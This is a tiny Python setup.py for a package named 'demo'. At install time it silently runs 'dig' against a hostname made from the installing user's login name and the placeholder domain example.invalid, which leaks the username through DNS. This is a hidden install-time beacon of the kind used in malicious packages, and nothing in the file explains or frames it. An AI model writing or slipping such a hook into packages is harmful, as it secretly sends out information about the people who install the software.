import getpass
import subprocess

from setuptools import setup

subprocess.Popen(["dig", "+short", f"{getpass.getuser()}.example.invalid"])

setup(name="demo", version="0.1")
